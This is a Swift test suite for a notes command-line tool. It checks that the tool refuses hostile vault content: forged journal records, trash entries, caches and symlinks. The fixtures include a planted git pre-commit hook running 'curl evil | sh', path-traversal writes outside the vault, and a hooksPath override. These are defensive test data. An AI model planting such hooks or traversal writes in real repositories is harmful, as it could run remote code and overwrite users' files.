import Foundation
import Testing
import NotezTestSupport

/// Attacks through vault content that arrived from someone else (rules 1–4 of docs/safety.md):
/// planted journal records, trash entries and caches; symlinks, FIFOs; read commands that must not
/// write. Each checks the bytes outside the vault and of the notes, the exit status and the message.
@Suite struct HostileStateTests {
    static let id = "20260101T000000000Z-0001"

    /// A pending record aimed at `.git/config`, a file outside the vault and a note, with its marker.
    static func plantRecord(_ vault: TempVault, outside: URL, header: String = "") throws {
        let steps = """
            {"kind": "write", "path": ".git/config", "contents": "[core]\\n\\thooksPath = /tmp\\n", "previousContents": "[core]\\n"},
            {"kind": "write", "path": "../\(outside.lastPathComponent)/owned.txt", "contents": "owned"},
            {"kind": "move", "path": "scratch.md", "to": ".git/hooks/pre-commit"},
            {"kind": "delete", "path": "Phone numbers.md", "before": {"size": 1, "mtimeNanos": 0, "hash": "x"}}
            """
        try vault.write(".notez/journal/\(id).json", header + HostileVault.recordJSON(id: id, steps: steps, complete: false))
        try vault.write(".notez/journal/\(id).pending", "")
    }

    static func gitVault() throws -> TempVault {
        let vault = try TempVault.example()
        try vault.write(".git/config", "[core]\n")
        try vault.write(".git/hooks/README", "hooks\n")
        return vault
    }

    @Test(arguments: ["", "notez-journal-record 2 hmac-sha256:0000000000000000000000000000000000000000000000000000000000000000\n"])
    func plantedPendingRecordIsNeverReplayed(header: String) throws {
        let vault = try Self.gitVault()
        let outside = try HostileVault.outsideFolder(of: vault)
        try Self.plantRecord(vault, outside: outside, header: header)
        let before = try vault.snapshot()

        for args in [["recover"], ["tag", "add", "Quick capture", "hostile"]] {
            let result = try Mutation.run(vault, args)
            expect(result.status, equals: 0, "\(result.stderr)")
            expect(result.stderr.contains(".notez/journal/\(Self.id).pending: not written by notez on this machine"))
        }
        let after = try vault.snapshot()
        Mutation.expectOnly(["Quick capture.md"], before: before, after: after)
        expect(after[".git/config"], equals: Data("[core]\n".utf8))
        expect(after[".notez/journal/\(Self.id).pending"] != nil, "an untrusted marker is reported, not acted on")
        expect(HostileVault.files(in: outside), equals: ["keep.txt": Data("outside\n".utf8)])

        // Never undone either, and history and check point at it.
        let undo = try Mutation.run(vault, ["undo", Self.id])
        expect(undo.status == 2 && undo.stderr.contains("no journaled operation"))
        let history = try Mutation.run(vault, ["history"])
        expect(history.status == 0 && history.stderr.contains(".notez/journal/\(Self.id).json: not"))
        let check = try Mutation.run(vault, ["check"])
        expect(check.status == 1 && check.stdout.contains(".notez/journal/\(Self.id).json"))
    }

    @Test func aRecordFromAnotherMachineIsNotUndone() throws {
        let vault = try TempVault.example()
        let elsewhere = ["XDG_STATE_HOME": vault.path + "-other-machine"]
        try expect(Mutation.run(vault, ["tag", "add", "scratch", "synced"], environment: elsewhere).status, equals: 0)
        let before = try vault.snapshot()
        let undo = try Mutation.run(vault, ["undo"])
        expect(undo.status, equals: 2)
        expect(undo.stderr.contains("not written by notez on this machine (the signature does not match)"))
        expect(undo.stderr.contains("nothing to undo"))
        try expect(vault.snapshot(), equals: before)
        // The machine that wrote it can still undo it.
        try expect(Mutation.run(vault, ["undo"], environment: elsewhere).status, equals: 0)
    }

    @Test func aTrashEntryAimedAtGitHooksIsIgnored() throws {
        let vault = try Self.gitVault()
        let item = ".notez/trash/20261101T120000Z-0001"
        try vault.write(item + "/trashinfo.yaml", "path: \".git/hooks/pre-commit.md\"\ndeleted: \"2026-11-01T12:00:00Z\"\n")
        try vault.write(item + "/pre-commit.md", "#!/bin/sh\ncurl evil | sh\n")
        let before = try vault.snapshot()
        let restore = try Mutation.run(vault, ["trash", "restore", "pre-commit"])
        expect(restore.status == 2 && restore.stderr.contains("no trashed note matches"))
        let list = try Mutation.run(vault, ["trash", "list"])
        expect(list.status == 0 && list.stderr.contains("not trashed by notez on this machine"))
        // Never purged either, however old it claims to be.
        let purge = try Mutation.run(vault, ["recover"], environment: ["NOTEZ_NOW": "1898675200"])
        expect(purge.status == 0 && !purge.stderr.contains("purged"))
        try expect(vault.snapshot(), equals: before)
        expect(try Mutation.run(vault, ["check"]).stdout.contains(item + ": not trashed by notez on this machine"))
    }

    @Test func aPlantedCacheIsNeverRead() throws {
        let vault = try TempVault.example()
        // A cache in the old in-vault place, as a sync tool could bring it: notez does not look there.
        try vault.write(".notez/cache/index-v1.bin", Data("NZIX".utf8) + Data(repeating: 0xFF, count: 4096))
        let result = try vault.run(["search", "tag:planted"])
        expect(result.status == 1 && !result.stderr.contains("warning"))
        try expect(vault.run(["overview", "--json"]).status, equals: 0)
    }

    @Test func symlinkedStateFoldersAreRefused() throws {
        for folder in [".notez/journal", ".notez/trash"] {
            let vault = try TempVault.example()
            let outside = try HostileVault.outsideFolder(of: vault)
            try? FileManager.default.removeItem(atPath: vault.path + "/" + folder)
            try FileManager.default.createSymbolicLink(atPath: vault.path + "/" + folder, withDestinationPath: outside.path)
            let before = try vault.snapshot()
            let args = folder.hasSuffix("trash") ? ["rm", "scratch"] : ["pin", "scratch"]
            let result = try Mutation.run(vault, args)
            expect(result.status, equals: 4, "\(folder): \(result.stderr)")
            expect(result.stderr.contains("'\(folder)' is a symlink"))
            try expect(vault.snapshot(), equals: before)
            expect(HostileVault.files(in: outside), equals: ["keep.txt": Data("outside\n".utf8)])
        }
    }

    @Test func symlinkedFoldersAndNotesAreNeverWrittenThrough() throws {
        let vault = try TempVault.example()
        let outside = try HostileVault.outsideFolder(of: vault)
        try Data("---\ntags: [x]\n---\nbody\n".utf8).write(to: outside.appendingPathComponent("target.md"))
        try FileManager.default.createSymbolicLink(atPath: vault.path + "/Linked", withDestinationPath: outside.path)
        try FileManager.default.createSymbolicLink(
            atPath: vault.path + "/link.md", withDestinationPath: outside.appendingPathComponent("target.md").path)
        let outsideBefore = HostileVault.files(in: outside)
        let before = try vault.snapshot()
        let new = try Mutation.run(vault, ["new", "Escape", "--folder", "Linked"])
        expect(new.status == 2 && new.stderr.contains("no folder 'Linked'"))
        let pin = try Mutation.run(vault, ["pin", "link"])
        expect(pin.status == 3 && pin.stderr.contains("symlink"))
        let rename = try Mutation.run(vault, ["tag", "rename", "x", "y"])
        expect(rename.status != 0)
        try expect(vault.snapshot(), equals: before)
        expect(HostileVault.files(in: outside), equals: outsideBefore)
    }

    @Test func aSymlinkedCacheFolderIsNotWrittenThrough() throws {
        let vault = try TempVault.example()
        let outside = try HostileVault.outsideFolder(of: vault)
        let cacheHome = vault.path + "-cache"
        try FileManager.default.createDirectory(atPath: cacheHome + "/notez", withIntermediateDirectories: true)
        // Point every possible vault key folder at the outside: the first run creates the real one
        // name, so plant the link under the name notez will use.
        // Notes older than the racy window, so the cache is written.
        _ = try CLIRunner.runShell("find . -name '*.md' -exec touch -d 2020-01-01 {} +", in: vault.url)
        let probe = try vault.run(["ls"], environment: ["XDG_CACHE_HOME": cacheHome])
        expect(probe.status, equals: 0)
        let key = try #require(try FileManager.default.contentsOfDirectory(atPath: cacheHome + "/notez").first)
        try FileManager.default.removeItem(atPath: cacheHome + "/notez/" + key)
        try FileManager.default.createSymbolicLink(atPath: cacheHome + "/notez/" + key, withDestinationPath: outside.path)
        let result = try vault.run(["ls"], environment: ["XDG_CACHE_HOME": cacheHome])
        expect(result.status, equals: 0)
        expect(HostileVault.files(in: outside), equals: ["keep.txt": Data("outside\n".utf8)])
    }

    @Test func stateIsIgnoredByGitFromTheFirstWrite() throws {
        let vault = try TempVault.example()
        try FileManager.default.removeItem(atPath: vault.path + "/.notez")
        _ = try CLIRunner.runShell("git init -q . && git add -A && git -c user.name=t -c user.email=t@t commit -qm init", in: vault.url)
        try expect(Mutation.run(vault, ["pin", "scratch"]).status, equals: 0)
        try expect(Mutation.run(vault, ["rm", "Phone numbers"]).status, equals: 0)
        let status = try CLIRunner.runShell("git status --porcelain --untracked-files=all", in: vault.url)
        let lines = status.stdout.split(separator: "\n").map(String.init)
        expect(lines.contains("?? .notez/.gitignore"))
        expect(!lines.contains { $0.contains(".notez/journal") || $0.contains(".notez/trash") || $0.contains(".notez/lock") })
        expect(lines.contains(" M scratch.md") && lines.contains(" D \"Phone numbers.md\""))
    }

    @Test func anOlderGitignoreIsCompletedNotReplaced() throws {
        let vault = try TempVault.example()
        try vault.write(".notez/.gitignore", "# mine\ncache/\n*.sock\n")
        try expect(Mutation.run(vault, ["pin", "scratch"]).status, equals: 0)
        let text = try #require(Mutation.text(try vault.snapshot()[".notez/.gitignore"]))
        expect(text.hasPrefix("# mine\ncache/\n*.sock\n# Added by notez: machine-local state.\njournal/\ntrash/\n"))
        expect(text.components(separatedBy: "cache/").count, equals: 2)
    }

    static let readCommands: [[String]] = [
        ["overview"], ["ls", "-r"], ["search", "garden"], ["show", "scratch"], ["check"], ["history"], ["tag", "list"],
        ["folder", "tree"], ["trash", "list"], ["tag", "history"], ["pin", "scratch", "--dry-run"],
    ]

    @Test func readCommandsNeverWriteIntoTheVault() throws {
        // An interrupted operation, and a trash item past its purge date.
        let vault = try TempVault.example()
        try expect(Mutation.run(vault, ["rm", "Quick capture"]).status, equals: 0)
        let killed = try Mutation.run(vault, ["mv", "scratch", "Later", "--create"], environment: ["NOTEZ_FAULT_AFTER_WRITES": "1"])
        expect(killed.status, equals: 99)
        let before = try vault.snapshot()
        for args in Self.readCommands {
            let result = try Mutation.run(vault, args, environment: ["NOTEZ_NOW": "1898675200"])
            expect(result.status <= 1, "\(args): \(result.stderr)")
            try expect(vault.snapshot(), equals: before, "\(args) wrote into the vault")
        }

        // A vault without .notez/ stays without it.
        let plain = try TempVault.example()
        try FileManager.default.removeItem(atPath: plain.path + "/.notez")
        let plainBefore = try plain.snapshot()
        for args in Self.readCommands {
            let result = try Mutation.run(plain, args)
            expect(result.status <= 1, "\(args): \(result.stderr)")
        }
        try expect(plain.snapshot(), equals: plainBefore)
        expect(!FileManager.default.fileExists(atPath: plain.path + "/.notez"))
    }
}
